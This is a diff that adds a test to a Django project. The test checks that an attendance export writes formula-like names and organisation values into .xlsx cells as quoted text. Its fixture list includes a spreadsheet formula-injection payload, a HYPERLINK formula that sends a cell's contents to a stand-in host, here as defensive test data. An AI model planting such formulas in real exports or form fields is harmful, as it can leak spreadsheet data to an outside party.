@@ -15,6 +15,7 @@ from rest_framework.test import APIClient
 
 from checkin.services import checkin_mark_present
 from events.enums import OrganizationKind
+from events.models import Registration
 from tests.factories import RegistrationFactory, UserFactory
 from tests.training.helpers import attend, make_course, scan_in, sessions_of, table_rows, vi
 from training.enums import CourseTopic
@@ -149,6 +150,39 @@ def test_attendance_export_survives_a_control_character_stored_in_a_name(staff_c
         for row in load_workbook(io.BytesIO(response.content)).worksheets[0].iter_rows(values_only=True)
     ]
     assert "Nguyễn Văn An" in names
+
+
+# Text typed in a public form that a spreadsheet program would take for a formula.
+FORMULA_LIKE = ['=HYPERLINK("http://x.example/?"&A1,"Xem")', "+84 912 345 678", "-1+2", "@SUM(A1:A9)"]
+FORMULA_LIKE_WITH_A_LINE_START = ["\t=1+1", "\r=1+1"]
+
+
+def test_attendance_export_writes_formula_like_names_as_text(staff_client, course):
+    trainees = list(course.event.registrations.filter(status="confirmed").order_by("full_name"))
+    names = FORMULA_LIKE[:3]
+    organisations = [FORMULA_LIKE[3], *FORMULA_LIKE_WITH_A_LINE_START]
+    for registration, name, organisation in zip(trainees, names, organisations, strict=True):
+        # Written directly: stored before names were checked, or by a script.
+        Registration.objects.filter(pk=registration.pk).update(full_name=name, organization_name=organisation)
+
+    response = staff_client.get(PAGE, {"format": "xlsx"})
+
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
+    by_email = {row[2].value: row for row in sheet.iter_rows(min_row=2)}
+    rows = [by_email[registration.email] for registration in trainees]
+    cells = [cell for row in rows for cell in row[:2]]
+    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in cells] == [
+        (names[0], "s", True),
+        (organisations[0], "s", True),
+        (names[1], "s", True),
+        ("\t=1+1", "s", True),
+        (names[2], "s", True),
+        # An .xlsx file (XML) keeps a line break as \n, as Excel writes it.
+        ("\n=1+1", "s", True),
+    ]
+    # Numbers stay numbers: sessions attended and the share.
+    assert [(row[-4].data_type, row[-3].data_type) for row in rows] == [("n", "n")] * 3
 
 
 def test_attendance_export_sheet_is_named_in_the_page_language(staff_client, course):
